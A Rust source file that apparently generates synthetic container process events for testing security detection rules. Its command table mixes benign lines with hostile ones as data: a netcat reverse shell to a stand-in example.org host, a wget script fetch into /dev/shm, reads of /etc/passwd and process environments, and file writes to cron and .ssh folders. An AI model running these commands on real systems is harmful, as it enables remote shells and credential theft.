//! What a host with containers does all day: programs start, connect, write files.

use serde_json::{Map, Value};

use crate::random::Random;

/// Names and texts or whole numbers.
pub(crate) type Event = Map<String, Value>;

pub(crate) const ADDRESSES: [&str; 14] = [
    "10.0.0.1",
    "10.255.255.255",
    "11.0.0.1",
    "192.168.1.77",
    "192.168.2.1",
    "172.31.0.9",
    "172.32.0.1",
    "127.0.0.1",
    "127.0.0.11",
    "fe80::1",
    "2001:db8::1",
    "2001:db9::1",
    "::1",
    "8.8.8.8",
];

/// Programs with what they are called with; `@` is a word that differs each time.
const COMMANDS: [(&str, &str, &str); 16] = [
    ("/usr/bin/curl", "curl -fsSL -o /tmp/@ https://downloads.example.org/@", "/usr/bin/bash"),
    ("/usr/bin/wget", "wget -q http://10.0.0.7/@.sh -O /dev/shm/@", "/bin/sh"),
    (
        "/usr/bin/python3.11",
        "python3 -m gunicorn app:wsgi --bind 0.0.0.0:8000 --name @",
        "/usr/bin/dumb-init",
    ),
    ("/usr/bin/node", "node --max-old-space-size=512 /srv/app/@/server.js", "/usr/sbin/tini"),
    ("/usr/bin/sed", "sed -i s/listen 80/listen 8080/ /etc/nginx/conf.d/@.conf", "/bin/sh"),
    ("/usr/bin/ls", "ls -la --color=auto /var/lib/@", "/usr/bin/bash"),
    ("/usr/bin/bash", "bash -c \"/usr/bin/id; cat /etc/@\"", "/usr/bin/runc"),
    ("/usr/bin/cat", "cat /etc/passwd /proc/@/environ", "/bin/sh"),
    ("/usr/bin/tar", "tar czf /tmp/@.tgz /home/@", "/usr/bin/bash"),
    ("/usr/bin/nc.openbsd", "nc -e /bin/sh @.example.org 4444", "/bin/sh"),
    ("/usr/bin/java", "java -Xmx2g -cp /opt/@/lib/* com.example.Main", "/usr/bin/dumb-init"),
    ("/usr/bin/grep", "grep -rn @ /var/log", "/usr/bin/bash"),
    ("/usr/sbin/crond", "crond -n -s", "/sbin/init"),
    ("/usr/bin/base64", "base64 -d /tmp/@", "/bin/sh"),
    ("/usr/bin/chmod", "chmod +x /tmp/@", "/usr/bin/bash"),
    ("/usr/bin/systemctl", "systemctl stop @.service", "/usr/bin/sudo"),
];
const USERS: [&str; 5] = ["root", "www-data", "nobody", "Admin", "postgres"];
const PORTS: [i64; 7] = [22, 53, 80, 443, 4444, 8080, 65535];

/// A program starting, half the time with what it connects to or writes.
pub(crate) fn realistic(random: &mut Random) -> Event {
    let mut event = execution(random);
    match random.below(4) {
        0 => {
            event.insert("DestinationIp".to_owned(), random.pick(&ADDRESSES).into());
            event.insert("DestinationPort".to_owned(), PORTS[random.below(PORTS.len())].into());
            event.insert("DestinationHostname".to_owned(), format!("{}.example.org", word(random)).into());
            event.insert("Initiated".to_owned(), "true".into());
        }
        1 => {
            let folder = random.pick(&["/tmp/", "/etc/cron.d/", "/home/Admin/.ssh/", "/var/www/html/"]);
            event.insert("TargetFilename".to_owned(), format!("{folder}{}", word(random)).into());
        }
        _ => {}
    }
    event
}

/// A program starting, as in a container.
pub(crate) fn execution(random: &mut Random) -> Event {
    let (image, command, parent) = COMMANDS[random.below(COMMANDS.len())];
    let mut line = String::new();
    for part in command.split_inclusive('@') {
        line.push_str(part.trim_end_matches('@'));
        if part.ends_with('@') {
            line.push_str(&word(random));
        }
    }
    let name = parent.rsplit('/').next().unwrap_or_default();
    let mut event = Event::new();
    event.insert("Image".to_owned(), image.into());
    event.insert("CommandLine".to_owned(), line.into());
    event.insert("ParentImage".to_owned(), parent.into());
    event.insert("ParentCommandLine".to_owned(), format!("{name} -c /srv/{}", word(random)).into());
    event.insert("User".to_owned(), random.pick(&USERS).into());
    event.insert("CurrentDirectory".to_owned(), "/srv/app".into());
    event.insert("ProcessId".to_owned(), random.below(70_000).into());
    event
}

fn word(random: &mut Random) -> String {
    let part = random.pick(&["release", "Backup", "setup", "id_rsa", "cache", "kworker", "app", "x"]);
    format!("{part}{}", random.below(1_000))
}
